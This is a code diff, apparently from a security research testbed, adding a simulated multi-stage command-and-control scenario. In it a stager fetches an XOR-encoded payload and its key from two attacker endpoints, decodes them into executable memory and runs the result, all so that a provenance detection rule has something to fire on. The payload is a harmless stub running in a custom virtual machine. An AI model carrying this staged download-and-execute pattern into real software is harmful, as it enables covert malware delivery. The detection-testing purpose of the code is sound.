@@ -527,6 +527,96 @@ std::unique_ptr<os::EventSource> AtomBombingScenario::make_source() {
 }
 
 // ---------------------------------------------------------------------------
+// Multi-stage C2: payload and key from two distinct endpoints.
+
+namespace {
+
+constexpr u16 kKeyServerPort = 5555;
+constexpr u8 kStageKey[8] = {0x5a, 0xa5, 0x3c, 0xc3, 0x96, 0x69, 0x0f, 0xf0};
+
+}  // namespace
+
+Result<void> MultiStageC2Scenario::setup(os::Machine& m) {
+  using vm::Reg;
+  os::ImageBuilder ib("stager.exe", os::kUserImageBase);
+  auto& a = ib.asm_();
+  a.label("_start");
+  // Stage 1: encoded payload from the primary endpoint.
+  emit_connect(a, kAttackerIp, kAttackerPort);
+  emit_send_label(a, "req", 3);
+  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
+  a.mov(Reg::R9, Reg::R0);
+  emit_recv(a, Reg::R9, 4096);
+  a.mov(Reg::R8, Reg::R0);
+  // Stage 2: the 8-byte XOR key from the second endpoint.
+  emit_connect(a, kAttackerIp, kKeyServerPort);
+  emit_send_label(a, "key", 3);
+  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
+  a.mov(Reg::R12, Reg::R0);
+  emit_recv(a, Reg::R12, 8);
+  // Decode into fresh RWX memory: every written byte is enc ^ key, so its
+  // provenance is the union of both netflows.
+  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite | os::kProtExec);
+  a.mov(Reg::R6, Reg::R0);
+  a.movi(Reg::R4, 0);
+  a.label("dec");
+  a.cmp(Reg::R4, Reg::R8);
+  a.bgeu("decd");
+  a.add(Reg::R5, Reg::R9, Reg::R4);
+  a.ld8(Reg::R7, Reg::R5, 0);
+  a.andi(Reg::R2, Reg::R4, 7);
+  a.add(Reg::R5, Reg::R12, Reg::R2);
+  a.ld8(Reg::R3, Reg::R5, 0);
+  a.xor_(Reg::R7, Reg::R7, Reg::R3);
+  a.add(Reg::R5, Reg::R6, Reg::R4);
+  a.st8(Reg::R5, 0, Reg::R7);
+  a.addi(Reg::R4, Reg::R4, 1);
+  a.jmp("dec");
+  a.label("decd");
+  a.callr(Reg::R6);  // R9 still holds the stage-1 buffer for the payload
+  emit_exit(a, 0);
+  a.align(8);
+  a.label("req");
+  a.data_str("GET", false);
+  a.align(8);
+  a.label("key");
+  a.data_str("KEY", false);
+  auto r = install_image(m, std::string(kSampleDir) + "stager.exe",
+                         ib.build());
+  if (!r.ok()) return r;
+  auto pid = m.kernel().spawn(std::string(kSampleDir) + "stager.exe");
+  if (!pid.ok()) return Err<void>(pid.error().message);
+  return Ok();
+}
+
+std::unique_ptr<os::EventSource> MultiStageC2Scenario::make_source() {
+  using vm::Reg;
+  // Tiny position-independent payload: one load from the (still tainted)
+  // stage-1 buffer, then return to the stager. That load is the trigger a
+  // "fetch distinct-netflows>=2" rule fires on — the *code* doing it was
+  // decoded from two flows.
+  vm::Assembler pa;
+  pa.push(Reg::LR);
+  pa.ld8(Reg::R5, Reg::R9, 0);
+  pa.pop(Reg::LR);
+  pa.ret();
+  auto code = pa.assemble(0);
+
+  auto multi = std::make_unique<MultiC2>();
+  auto payload_c2 = std::make_unique<C2Server>(kAttackerIp, kAttackerPort);
+  if (code.ok()) {
+    Bytes enc = code.value();
+    for (size_t i = 0; i < enc.size(); ++i) enc[i] ^= kStageKey[i & 7];
+    payload_c2->queue_response(std::move(enc));
+  }
+  auto key_c2 = std::make_unique<C2Server>(kAttackerIp, kKeyServerPort);
+  key_c2->queue_response(Bytes(kStageKey, kStageKey + 8));
+  multi->add(std::move(payload_c2));
+  multi->add(std::move(key_c2));
+  return multi;
+}
+
+// ---------------------------------------------------------------------------
 // Table IV behaviour samples.
 
 Result<void> BehaviorScenario::setup(os::Machine& m) {
